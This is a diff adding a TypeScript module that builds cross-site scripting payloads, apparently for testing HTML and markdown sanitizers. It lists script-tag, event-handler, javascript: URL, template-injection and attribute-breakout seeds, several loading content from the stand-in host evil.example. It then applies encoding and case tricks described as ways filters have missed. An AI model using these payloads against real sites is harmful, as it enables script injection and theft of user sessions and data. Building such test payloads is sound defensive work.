@@ -1,0 +1,94 @@
+// Text that would run as a script, or ask another host, wherever a page took it for more than text. If one runs it counts up `window.ran`.
+
+const run = "window.ran=1+(window.ran||0)";
+const away = "//evil.example/x";
+
+const seeds = [
+  `<script>${run}</script>`,
+  `<script src=${away}></script>`,
+  `</textarea><script>${run}</script>`,
+  `</title><script>${run}</script>`,
+  `</script><script>${run}</script>`,
+  `<img src=x onerror="${run}">`,
+  `<img src=${away}>`,
+  `<svg onload="${run}">`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
+  `<math><mtext><img src=x onerror="${run}"></mtext></math>`,
+  `<body onload="${run}">`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${run}"></iframe>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src=${away}>`,
+  `<link rel=stylesheet href=${away}>`,
+  `<style>@import "${away}"</style>`,
+  `<style>*{background:url(${away})}</style>`,
+  `<base href=${away}>`,
+  `<meta http-equiv=refresh content="0;url=${away}">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
+  `<form action=${away}><button autofocus>x</button></form>`,
+  `<input autofocus onfocus="${run}">`,
+  `<details open ontoggle="${run}">`,
+  `<video><source onerror="${run}"></video>`,
+  `<audio src=${away} onerror="${run}">`,
+  `<marquee onstart="${run}">`,
+  `<a href="javascript:${run}">a</a>`,
+  `<a href=${away} ping=${away}>a</a>`,
+  `[a](javascript:${run})`,
+  `[a](JaVaScRiPt:${run})`,
+  `[a](java\tscript:${run})`,
+  `[a](&#106;avascript:${run})`,
+  `[a](javascript&colon;${run})`,
+  `[a](data:text/html,<script>${run}</script>)`,
+  `[a](vbscript:${run})`,
+  `[a](<javascript:${run}>)`,
+  `[a][b]\n\n[b]: javascript:${run}`,
+  `![a](https:${away})`,
+  `![a](https:${away} "x" onerror="${run}")`,
+  `![a](javascript:${run})`,
+  `![a][c]\n\n[c]: https:${away}`,
+  `<javascript:${run}>`,
+  `<https:${away}>`,
+  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
+  `\`<img src=x onerror=${run}>\``,
+  `"onmouseover="${run}" autofocus onfocus="${run}`,
+  `' onfocus='${run}' autofocus='`,
+  `"><script>${run}</script>`,
+  `'-${run}-'`,
+  `\${${run}}`,
+  `{{constructor.constructor('${run}')()}}`,
+  `javascript:${run}`,
+  `--></style></script><svg onload=${run}>`,
+  `<!--><img src=x onerror="${run}">-->`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<template><script>${run}</script></template>`,
+  `<x contenteditable onblur="${run}" tabindex=1 autofocus>`,
+  `<portal src=${away}></portal>`,
+];
+
+/** Ways of writing the same that filters have missed. */
+const dresses: ((text: string) => string)[] = [
+  (text) => text,
+  (text) => text.toUpperCase().replaceAll("WINDOW.RAN", "window.ran"),
+  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
+  (text) => text.replaceAll("<", "\\u003c"),
+  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
+  (text) => text.replaceAll("<", "<\u0000").replaceAll("\u0000", ""),
+  (text) => text.replaceAll(" ", "/"),
+  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
+  (text) => `<b>${text}</b>`,
+  (text) => `> ${text.replaceAll("\n", "\n> ")}`,
+  (text) => `“${text}” (John 3:16)`,
+];
+
+/** This many of them, each another; those that a place has no room for are not of use to it. */
+export function scriptPayloads(count: number): string[] {
+  const all = dresses.flatMap((dress) => seeds.map(dress));
+  const different = [...new Set(all)];
+  // Spread over all, so that a few are of every kind.
+  const step = different.length / Math.min(count, different.length);
+  return Array.from({ length: Math.min(count, different.length) }, (_, at) => {
+    const payload = different[Math.floor(at * step)];
+    return payload ?? "";
+  });
+}
